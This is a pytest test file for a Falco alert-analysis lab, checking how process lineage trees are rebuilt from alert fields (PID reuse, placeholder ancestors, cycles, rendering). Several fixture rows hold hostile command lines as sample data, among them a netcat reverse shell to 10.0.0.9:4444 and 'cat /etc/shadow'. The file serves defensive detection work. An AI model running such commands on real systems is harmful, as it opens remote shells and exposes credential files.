"""Process lineage rebuilt from alert fields."""

from __future__ import annotations

import pandas as pd

from falco_lab.analysis.lineage import (
    ancestors,
    build_process_tree,
    children,
    select_subtrees,
    tree_figure,
    tree_to_text,
)
from falco_lab.events.schema import empty_frame
from tests.analysis.frames import T0, alerts


def _row(tree, name):
    rows = tree[tree["name"] == name]
    assert len(rows) == 1, f"expected one process named {name}, got {len(rows)}"
    return rows.iloc[0]


def test_child_links_to_alerted_parent_by_ppid():
    tree = build_process_tree(
        alerts(
            {
                "container.id": "c1",
                "proc.pid": 10,
                "proc.ppid": 1,
                "proc.name": "bash",
                "proc.cmdline": "bash",
            },
            {
                "container.id": "c1",
                "proc.pid": 11,
                "proc.ppid": 10,
                "proc.name": "curl",
                "proc.cmdline": "curl x",
            },
        )
    )
    assert _row(tree, "curl")["parent_key"] == _row(tree, "bash")["key"]


def test_pid_reuse_with_other_command_line_is_another_process():
    tree = build_process_tree(
        alerts(
            {
                "container.id": "c1",
                "proc.pid": 42,
                "proc.ppid": 1,
                "proc.name": "curl",
                "proc.cmdline": "curl a",
                "t": 0,
            },
            {
                "container.id": "c1",
                "proc.pid": 42,
                "proc.ppid": 1,
                "proc.name": "curl",
                "proc.cmdline": "curl a",
                "t": 1,
            },
            {
                "container.id": "c1",
                "proc.pid": 42,
                "proc.ppid": 1,
                "proc.name": "nc",
                "proc.cmdline": "nc -l 9",
                "t": 60,
            },
        )
    )
    alerted = tree[~tree["placeholder"]]
    assert sorted(alerted["name"]) == ["curl", "nc"]
    assert _row(tree, "curl")["alerts"] == 2
    assert _row(tree, "curl")["key"] != _row(tree, "nc")["key"]


def test_pid_reuse_is_told_apart_by_start_time_when_printed():
    tree = build_process_tree(
        alerts(
            {"container.id": "c1", "proc.pid": 42, "proc.pid.ts": 1000, "proc.cmdline": "sh -c run", "t": 0},
            {"container.id": "c1", "proc.pid": 42, "proc.pid.ts": 1000, "proc.cmdline": "sh -c run", "t": 5},
            {"container.id": "c1", "proc.pid": 42, "proc.pid.ts": 9000, "proc.cmdline": "sh -c run", "t": 50},
        )
    )
    assert list(tree["alerts"]) == [2, 1]
    assert tree["key"].nunique() == 2


def test_same_pid_in_two_containers_are_two_processes():
    tree = build_process_tree(
        alerts(
            {"container.id": "c1", "proc.pid": 42, "proc.name": "sh", "proc.cmdline": "sh"},
            {"container.id": "c2", "proc.pid": 42, "proc.name": "sh", "proc.cmdline": "sh"},
        )
    )
    assert sorted(tree["container_id"]) == ["c1", "c2"]


def test_missing_ancestors_become_placeholder_chain():
    tree = build_process_tree(
        alerts(
            {
                "container.id": "c1",
                "proc.pid": 300,
                "proc.name": "cat",
                "proc.cmdline": "cat /etc/shadow",
                "proc.ppid": 200,
                "proc.pname": "bash",
                "proc.apid[2]": 100,
                "proc.aname[2]": "containerd-shim",
                "proc.apid[3]": 1,
                "proc.aname[3]": "systemd",
            }
        )
    )
    cat = _row(tree, "cat")
    chain = [tree.set_index("key").loc[k, "name"] for k in ancestors(tree, cat["key"])]
    assert chain == ["bash", "containerd-shim", "systemd"]
    assert tree[tree["name"] != "cat"]["placeholder"].all()
    assert list(tree["depth"]) == [0, 1, 2, 3]


def test_placeholder_is_shared_by_siblings():
    tree = build_process_tree(
        alerts(
            {
                "container.id": "c1",
                "proc.pid": 11,
                "proc.ppid": 10,
                "proc.pname": "bash",
                "proc.cmdline": "ls",
            },
            {
                "container.id": "c1",
                "proc.pid": 12,
                "proc.ppid": 10,
                "proc.pname": "bash",
                "proc.cmdline": "id",
            },
        )
    )
    bash = _row(tree, "bash")
    assert bash["placeholder"]
    assert sorted(children(tree, bash["key"])["name"]) == ["id", "ls"]


def test_child_picks_the_parent_instance_with_matching_name():
    tree = build_process_tree(
        alerts(
            {"container.id": "c1", "proc.pid": 50, "proc.name": "bash", "proc.cmdline": "bash", "t": 0},
            {
                "container.id": "c1",
                "proc.pid": 50,
                "proc.name": "python3",
                "proc.cmdline": "python3 app.py",
                "t": 100,
            },
            {
                "container.id": "c1",
                "proc.pid": 60,
                "proc.ppid": 50,
                "proc.pname": "bash",
                "proc.cmdline": "ls",
                "t": 200,
            },
        )
    )
    assert _row(tree, "ls")["parent_key"] == _row(tree, "bash")["key"]


def test_child_prefers_latest_parent_started_before_it():
    start = T0.value
    tree = build_process_tree(
        alerts(
            {
                "container.id": "c1",
                "proc.pid": 50,
                "proc.pid.ts": start - 10**9,
                "proc.cmdline": "sh a",
                "t": 0,
            },
            {
                "container.id": "c1",
                "proc.pid": 50,
                "proc.pid.ts": start + 90 * 10**9,
                "proc.cmdline": "sh a",
                "t": 100,
            },
            {"container.id": "c1", "proc.pid": 60, "proc.ppid": 50, "proc.cmdline": "id", "t": 150},
        )
    )
    parent = tree.set_index("key").loc[_row(tree, "id")["parent_key"]]
    assert parent["start"] == T0 + pd.Timedelta(seconds=90)


def test_processes_started_within_a_microsecond_keep_distinct_keys():
    tree = build_process_tree(
        alerts(
            {
                "container.id": "c1",
                "proc.pid": 50,
                "proc.pid.ts": 1_000_000_001,
                "proc.cmdline": "sh",
                "t": 0,
            },
            {
                "container.id": "c1",
                "proc.pid": 50,
                "proc.pid.ts": 1_000_000_002,
                "proc.cmdline": "sh",
                "t": 1,
            },
        )
    )
    assert tree["key"].is_unique and len(tree) == 2


def test_name_falls_back_to_first_word_of_cmdline():
    tree = build_process_tree(alerts({"proc.pid": 7, "proc.cmdline": "nginx -g daemon off;"}))
    assert tree["name"].tolist() == ["nginx"]


def test_parent_cycle_is_broken():
    tree = build_process_tree(
        alerts(
            {"container.id": "c", "proc.pid": 1, "proc.ppid": 2, "proc.name": "a", "proc.cmdline": "a"},
            {"container.id": "c", "proc.pid": 2, "proc.ppid": 1, "proc.name": "b", "proc.cmdline": "b"},
        )
    )
    assert tree["parent_key"].isna().sum() == 1
    assert sorted(tree["depth"]) == [0, 1]


def test_alerts_naming_no_process_are_counted_not_placed():
    tree = build_process_tree(alerts({"proc.pid": 5, "proc.cmdline": "sh"}, {"fd.name": "/etc/passwd"}))
    assert len(tree) == 1
    assert tree.attrs["unplaced_alerts"] == 1


def test_alert_without_pid_is_one_process_per_command_line():
    tree = build_process_tree(
        alerts(
            {"container.id": "c1", "proc.name": "apt", "proc.cmdline": "apt install nmap", "t": 0},
            {"container.id": "c1", "proc.name": "apt", "proc.cmdline": "apt install nmap", "t": 9},
            {"container.id": "c1", "proc.name": "apt", "proc.cmdline": "apt update", "t": 5},
        )
    )
    assert sorted(zip(tree["cmdline"], tree["alerts"], strict=True)) == [
        ("apt install nmap", 2),
        ("apt update", 1),
    ]
    assert tree["pid"].isna().all()


def test_alert_without_pid_links_to_alerted_parent_by_name():
    tree = build_process_tree(
        alerts(
            {"container.id": "c1", "proc.pid": 10, "proc.name": "bash", "proc.cmdline": "bash", "t": 0},
            {
                "container.id": "c1",
                "proc.name": "nc",
                "proc.cmdline": "nc -e /bin/sh 10.0.0.9 4444",
                "proc.pname": "bash",
                "t": 5,
            },
        )
    )
    assert _row(tree, "nc")["parent_key"] == _row(tree, "bash")["key"]


def test_ancestors_known_by_name_only_are_merged_per_container():
    chain = {
        "container.id": "c1",
        "proc.pname": "runc",
        "proc.aname[2]": "containerd-shim",
        "proc.aname[3]": "systemd",
    }
    tree = build_process_tree(
        alerts(
            {**chain, "proc.pid": 20, "proc.ppid": 19, "proc.cmdline": "sh -c a"},
            {**chain, "proc.pid": 30, "proc.ppid": 29, "proc.cmdline": "sh -c b"},
        )
    )
    shim = _row(tree, "containerd-shim")
    assert shim["placeholder"] and pd.isna(shim["pid"])
    assert sorted(children(tree, shim["key"])["pid"]) == [19, 29]
    assert _row(tree, "systemd")["key"] == shim["parent_key"]


def test_tree_text_indents_children_under_parents():
    tree = build_process_tree(
        alerts(
            {
                "container.id": "c1",
                "k8s.pod.name": "web",
                "proc.pid": 10,
                "proc.ppid": 1,
                "proc.pname": "runc",
                "proc.name": "bash",
                "proc.cmdline": "bash -i",
            },
            {
                "container.id": "c1",
                "proc.pid": 11,
                "proc.ppid": 10,
                "proc.name": "curl",
                "proc.cmdline": "curl x",
            },
        )
    )
    lines = tree_to_text(tree).splitlines()
    assert lines[0].endswith("container c1 · pod web")
    assert lines[1].startswith("└─ runc (pid 1)")
    assert lines[2].startswith("   └─ bash (pid 10) bash -i")
    assert lines[3].startswith("      └─ curl (pid 11) curl x")


def test_tree_figure_parents_all_exist():
    tree = build_process_tree(
        alerts(
            {"container.id": "c1", "proc.pid": 10, "proc.ppid": 1, "proc.cmdline": "bash"},
            {"container.id": "c2", "proc.pid": 11, "proc.ppid": 10, "proc.cmdline": "curl x"},
        )
    )
    trace = tree_figure(tree).data[0]
    ids = set(trace.ids)
    assert all(parent == "" or parent in ids for parent in trace.parents)
    assert set(tree["key"]) <= ids


def test_empty_frame_gives_empty_tree_and_message():
    tree = build_process_tree(empty_frame())
    assert tree.empty
    assert tree_to_text(tree).startswith("No processes")
    assert tree.attrs["unplaced_alerts"] == 0
    assert "No process lineage" in tree_figure(tree).layout.annotations[0].text


def test_pod_is_shared_within_a_container_but_not_across_host_processes():
    tree = build_process_tree(
        alerts(
            {"container.id": "c1", "k8s.pod.name": "web", "proc.pid": 10, "proc.cmdline": "nginx"},
            {"container.id": "c1", "proc.pid": 11, "proc.cmdline": "sh"},
            {"container.id": "host", "k8s.pod.name": None, "proc.pid": 1, "proc.cmdline": "systemd"},
        )
    )
    pods = dict(zip(tree["name"], tree["pod"], strict=True))
    assert pods["sh"] == "web" and pd.isna(pods["systemd"])


def test_select_subtrees_puts_most_severe_tree_first_and_respects_budget():
    tree = build_process_tree(
        alerts(
            {"container.id": "a", "proc.pid": 1, "proc.cmdline": "quiet", "priority": "Notice"},
            {
                "container.id": "b",
                "proc.pid": 2,
                "proc.ppid": 1,
                "proc.cmdline": "loud",
                "priority": "Critical",
            },
        )
    )
    assert select_subtrees(tree, 10)["name"].fillna("?").tolist() == ["?", "loud", "quiet"]
    cut = select_subtrees(tree, 2)
    assert cut["name"].fillna("?").tolist() == ["?", "loud"]
    assert (cut.attrs["omitted_trees"], cut.attrs["omitted_processes"]) == (1, 1)


def test_an_alert_without_pid_joins_the_process_with_the_same_name_and_command_line():
    from falco_lab.analysis.lineage import build_process_tree as build
    from tests.analysis.frames import alerts as make

    pod = {"k8s.ns.name": "shop", "k8s.pod.name": "api", "container.id": "c1", "proc.name": "bash"}
    df = make(
        {**pod, "proc.pid": 7668, "proc.ppid": 7647, "proc.cmdline": "bash", "rule": "Ours", "t": 0},
        {**pod, "proc.cmdline": "bash", "proc.pname": "runc", "rule": "Upstream, no pid", "t": 0.5},
    )
    tree = build(df)
    bash = tree[tree["name"] == "bash"]
    assert len(bash) == 1 and bash["pid"].tolist() == [7668] and bash["alerts"].tolist() == [2]


def test_two_sessions_of_one_shell_stay_two_processes_and_a_pidless_alert_joins_the_nearer():
    from falco_lab.analysis.lineage import build_process_tree as build
    from tests.analysis.frames import alerts as make

    pod = {"k8s.ns.name": "shop", "k8s.pod.name": "api", "container.id": "c1", "proc.name": "bash"}
    df = make(
        {**pod, "proc.pid": 7668, "proc.cmdline": "bash", "rule": "Ours", "t": 0},
        {**pod, "proc.pid": 9468, "proc.cmdline": "bash", "rule": "Ours", "t": 4000},
        {**pod, "proc.cmdline": "bash", "rule": "Upstream, no pid", "t": 4001},
    )
    bash = build(df).query("name == 'bash'").set_index("pid")
    assert sorted(bash.index) == [7668, 9468]
    assert bash.loc[9468, "alerts"] == 2 and bash.loc[7668, "alerts"] == 1


def test_a_pidless_alert_far_from_any_pid_alert_stays_its_own_process():
    from falco_lab.analysis.lineage import build_process_tree as build
    from tests.analysis.frames import alerts as make

    pod = {"k8s.ns.name": "shop", "k8s.pod.name": "api", "container.id": "c1", "proc.name": "bash"}
    df = make(
        {**pod, "proc.pid": 7668, "proc.cmdline": "bash", "t": 0},
        {**pod, "proc.cmdline": "bash", "t": 600},
    )
    assert build(df).query("name == 'bash'")["pid"].isna().sum() == 1
